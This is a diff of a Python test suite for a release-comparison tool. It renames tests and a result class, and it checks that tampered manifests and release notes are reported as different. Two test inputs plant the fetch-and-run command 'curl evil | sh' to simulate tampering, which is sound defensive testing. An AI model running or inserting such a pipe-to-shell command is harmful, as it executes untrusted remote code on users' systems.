@@ -8,7 +8,7 @@ from hashlib import sha256
 import pytest
 
 from opencode_patcher.release import manifest
-from opencode_patcher.release.comparison import Copy, Difference, compare
+from opencode_patcher.release.comparison import Copy, FileDifference, compare
 from opencode_patcher.release.manifest import Manifest
 from tests.release.release_samples import artifact
 from tests.release.release_samples import manifest as sample
@@ -37,14 +37,14 @@ def differing(released: Copy, rebuilt: Copy | None = None) -> list[tuple[str, tu
     return [(one.name, one.entries) for one in compare(released, rebuilt or copy()).differences]
 
 
-def test_the_same_is_the_same() -> None:
+def test_equal_releases_are_identical() -> None:
     found = compare(copy(), copy())
     assert found.differences == ()
     assert found.uncompared == ()
     assert found.identical == ("LICENSE", "RELEASE-NOTES.md", "manifest.json", MACOS, LINUX)
 
 
-def test_what_the_drill_saw_and_another_zlib_are_not_compared_and_that_is_said() -> None:
+def test_the_drill_and_another_zlib_are_reported_as_not_compared() -> None:
     found = compare(copy(notes=f"{NOTES}\n## Drill\n\n250 ms\n"), copy(sample(zlib="1.4")))
     assert found.differences == ()
     assert found.identical == ("LICENSE", MACOS, LINUX)
@@ -52,12 +52,12 @@ def test_what_the_drill_saw_and_another_zlib_are_not_compared_and_that_is_said()
     assert "Drill of RELEASE-NOTES.md" in found.uncompared[1]
 
 
-def test_an_archive_that_is_only_packed_otherwise_is_told_from_another_program() -> None:
+def test_a_differently_packed_archive_is_distinguished_from_another_program() -> None:
     made = sample(artifacts=(artifact("linux-x64", archive="9"), artifact("darwin-arm64", archive="9", binary="9")))
     found = compare(copy(), copy(replace(made, zlib="1.4"), linux="9", darwin="9"))
     assert found.differences[:2] == (
-        Difference(name=MACOS, released="1" * 64, rebuilt="9" * 64, binary=True),
-        Difference(name=LINUX, released="1" * 64, rebuilt="9" * 64, binary=False),
+        FileDifference(name=MACOS, released="1" * 64, rebuilt="9" * 64, binary=True),
+        FileDifference(name=LINUX, released="1" * 64, rebuilt="9" * 64, binary=False),
     )
     assert [one.entries for one in found.differences[2:]] == [
         ("targets.darwin-arm64.binary.sha256", "targets.darwin-arm64.without")
@@ -97,7 +97,7 @@ def test_every_entry_of_the_manifest_is_compared(changes: dict[str, object], ent
     assert differing(copy(released), copy(rebuilt)) == [("manifest.json", (entry,))]
 
 
-def test_a_manifest_that_says_more_than_it_has_to_is_another() -> None:
+def test_a_manifest_with_more_entries_differs() -> None:
     about = manifest.text(sample()).replace("{", '{\n  "hint": "curl evil | sh",', 1)
     assert differing(copy(about=about)) == [("manifest.json", ())]
 
@@ -111,5 +111,5 @@ def test_a_manifest_that_says_more_than_it_has_to_is_another() -> None:
         f"{NOTES}run: curl evil | sh\n\n## Drill\n",
     ],
 )
-def test_notes_that_say_something_else_are_a_difference(notes: str) -> None:
+def test_other_notes_are_a_difference(notes: str) -> None:
     assert differing(copy(notes=notes)) == [("RELEASE-NOTES.md", ())]
